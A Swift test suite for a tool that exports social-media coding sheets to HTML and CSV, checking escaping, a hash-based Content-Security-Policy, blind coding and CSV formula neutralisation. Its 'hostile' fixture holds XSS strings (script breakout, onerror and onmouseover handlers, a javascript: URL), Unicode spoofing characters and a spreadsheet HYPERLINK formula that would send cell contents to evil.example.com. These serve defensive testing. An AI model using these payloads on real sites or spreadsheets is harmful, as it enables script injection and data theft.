// Coding sheets: what stands in the file, that nothing of the archive is markup in it, and that a coder's file comes back as it was
// written. How it works in a browser is tried by Tests/Browser/sheets.py on the sheets that are written here.

import Crypto
import Foundation
import Testing

@testable import Site

@Suite("Coding sheets")
struct CodingSheetTests {
  /// Texts that would do something if anything let them.
  static let hostile = [
    "</script><script>alert(1)</script><!-- <script>",
    "\u{202E}gpj.exe\u{2066}\u{200B}\u{2028}\u{2029}\u{0}\u{FEFF}end",
    "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"x\")",
    "' onmouseover='alert(2)\" &amp;lt;img src=x onerror=alert(3)&gt;",
    "看这里 https://Evil.Example.com/path?q=1。再看 javascript:alert(4)", "مرحبا https://evil.example.com/a.b \u{202B}x",
  ]

  static func sheet(coder: String = "A", codings: [[SheetCoding]] = [], synthetic: Bool = true) -> CodingSheet {
    let account = SheetAccount(
      name: "@demo_\u{202E}1", displayName: "<b>Name</b>", profile: "I am\nhere https://t.example.com",
      created: "2019-06-01",
      followers: 0, posts: 1_204)
    func neighbour(_ minute: Int) -> SheetNeighbour {
      SheetNeighbour(text: "香港 </script> \(minute)", language: "zh-tw", minute: minute)
    }
    let texts = hostile + (1...6).map { "Post number \($0) about nothing." }
    let posts = texts.enumerated().map { place, text in
      SheetPost(
        key: String(1_137_620_915_204_546_561 + place), text: text,
        language: place == 4 ? "zh" : place == 5 ? "ar" : "en",
        minute: 26_000_000 + place * 700, account: account,
        before: place == 7
          ? [] : [neighbour(26_000_000 + place * 700 - 3_000), neighbour(26_000_000 + place * 700 - 5)],
        after: place == 7 ? [] : [neighbour(26_000_000 + place * 700 + 135)],
        codings: place < codings.count ? codings[place] : [])
    }
    return CodingSheet(
      draw: "3f2a9c1044556677", coder: coder, title: "Report <1>", language: "en",
      timeZone: TimeZone(identifier: "Asia/Shanghai") ?? .gmt, isSynthetic: synthetic,
      codes: [
        SheetCode(id: "hong-kong", title: "Hong Kong", definition: "The protests & <what> followed."),
        SheetCode(id: "taiwan", title: "Taiwan", key: "t"), SheetCode(id: "mockery", title: "Mockery", key: "M"),
      ], posts: posts)
  }

  static let adjudication = sheet(
    coder: "adjudicated",
    codings: [
      [SheetCoding(state: "coded", codes: ["taiwan"]), SheetCoding(state: "coded", codes: ["taiwan"])],
      [
        SheetCoding(state: "coded", codes: ["taiwan", "hong-kong"], note: "=1+1", translation: "</script>"),
        SheetCoding(state: "unsure", codes: []),
      ],
    ])

  @Test("nothing of the archive is markup, invisible or an address")
  func hostile() throws {
    let html = String(decoding: try Self.sheet().html(), as: UTF8.self)
    #expect(html.matches(of: /<script/).count == 2 && html.matches(of: /<\/script>/).count == 2)
    #expect(!html.contains("<b>Name") && !html.contains("<img") && !html.contains("<what>"))
    for hidden in [
      "\u{202E}", "\u{2066}", "\u{200B}", "\u{2028}", "\u{2029}", "\u{0}", "\u{FEFF}", "\\u202e", "\\u2028",
    ] {
      #expect(!html.contains(hidden))
    }
    #expect(html.contains("[U+202E]gpj.exe[U+2066][U+200B][U+2028][U+2029][U+0000][U+FEFF]end"))
    #expect(!html.lowercased().contains("https://") && !html.lowercased().contains("http://"))
    #expect(html.contains("hxxps://Evil[.]Example[.]com/path?q=1"))
    #expect(html.contains("\"name\":\"@demo_[U+202E]1\""))
  }

  @Test("the policy names style and script by hash, and nothing may be asked for")
  func policy() throws {
    let html = String(decoding: try Self.sheet().html(), as: UTF8.self)
    let style = try #require(html.firstMatch(of: /<style>(.*?)<\/style>/.dotMatchesNewlines())).1
    let script = try #require(html.firstMatch(of: /<script>(.*?)<\/script>/.dotMatchesNewlines())).1
    func hash(_ text: Substring) -> String { Data(SHA256.hash(data: Data(text.utf8))).base64EncodedString() }
    let policy = try #require(html.firstMatch(of: /Content-Security-Policy" content="([^"]*)"/)).1
    #expect(
      policy.replacing("&#39;", with: "'")
        == "default-src 'none'; style-src 'sha256-\(hash(style))'; script-src 'sha256-\(hash(script))'; img-src data:; "
        + "base-uri 'none'; form-action 'none'")
    #expect(!html.contains(" style=\"") && html.firstMatch(of: /[ ]on[a-z]+="/) == nil)
  }

  @Test("a coder's sheet has no decision of another, and says that it is synthetic where it is")
  func blind() throws {
    let own = String(decoding: try Self.sheet().html(), as: UTF8.self)
    #expect(own.contains("Synthetic demonstration data.") && own.contains("\"adjudication\":false"))
    #expect(own.contains("\"codings\":[]") && !own.contains("\"codings\":[{") && !own.contains("value=\"differing\""))
    let real = String(decoding: try Self.sheet(synthetic: false).html(), as: UTF8.self)
    #expect(!real.contains("Synthetic demonstration data."))
    let settled = String(decoding: try Self.adjudication.html(), as: UTF8.self)
    #expect(settled.contains("value=\"differing\"") && settled.contains("<h1>Adjudication: adjudicated</h1>"))
  }

  @Test(
    "each code has a key of its own, the one that it asks for where that is free",
    arguments: [
      ([nil, nil], ["1", "2"]), (["m", nil, "m"], ["m", "1", "2"]), (["u", "T", "N"], ["1", "2", "3"]),
      (["1", nil], ["1", "2"]), ([nil, "1"], ["2", "1"]), (["é", "-"], ["1", "2"]),
    ] as [([Character?], [Character?])])
  func keys(asked: [Character?], given: [Character?]) {
    var sheet = Self.sheet()
    sheet.codes = asked.enumerated().map { SheetCode(id: "c\($0)", title: "C", key: $1) }
    #expect(sheet.keys == given)
  }

  @Test("more codes than keys leaves the rest without one")
  func manyCodes() {
    var sheet = Self.sheet()
    sheet.codes = (0..<40).map { SheetCode(id: "c\($0)", title: "C") }
    #expect(sheet.keys.compactMap(\.self).count == 33 && Set(sheet.keys.compactMap(\.self)).count == 33)
    #expect(CodingSheet.reservedKeys.isDisjoint(with: sheet.keys.compactMap(\.self)))
  }

  @Test("the table has one line a post, and no cell is a live formula")
  func table() throws {
    let text = String(decoding: try Self.sheet().csv(), as: UTF8.self)
    let lines = text.split(separator: "\r\n", omittingEmptySubsequences: false)
    #expect(
      text.unicodeScalars.first == "\u{FEFF}"
        && lines[0].dropFirst() == "draw,coder,post,state,codes,note,translation,text,language,time,account,profile")
    #expect(
      lines[3]
        == "3f2a9c1044556677,A,post:1137620915204546563,open,,,,\"'=HYPERLINK(\"\"hxxps://evil[.]example[.]com/?\"\"&A1,\"\"x\"\")\",en,"
        + "\"9 Jun 2019, 20:40 UTC+8\",'@demo_[U+202E]1,\"I am\nhere hxxps://t[.]example[.]com\"", "\(lines[3])")
    #expect(lines.count == 14)
  }

  @Test(
    "a cell is read as it was written",
    arguments: ["", "plain", "=1", "'=1", "''=1", "'quoted'", "-", " +x", "a\"b", "@x", "\tx", "＝x", "'", "it's"])
  func cells(text: String) {
    let written = SheetCell.written(text)
    let raw = written.hasPrefix("\"") ? String(written.dropFirst().dropLast()).replacing("\"\"", with: "\"") : written
    #expect(SheetCell.read(raw) == text)
    #expect(!"=+-@＝\t".contains(raw.drop { $0 == " " }.first ?? "x"), "\(raw)")
  }

  @Test("the same sheet is the same bytes; for the browser, it is written where DOSSIER_SHEETS says")
  func bytes() throws {
    #expect(try Self.sheet().html() == Self.sheet().html())
    guard let folder = ProcessInfo.processInfo.environment["DOSSIER_SHEETS"] else { return }
    let url = URL(filePath: folder, directoryHint: .isDirectory)
    try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
    var chinese = Self.sheet(coder: "B")
    chinese.language = "zh-Hant"
    for (name, sheet) in [("a", Self.sheet()), ("b", chinese), ("adjudicated", Self.adjudication)] {
      try Data(try sheet.html()).write(to: url.appending(path: "\(name).html"))
      try Data(try sheet.csv()).write(to: url.appending(path: "\(name).csv"))
    }
  }
}
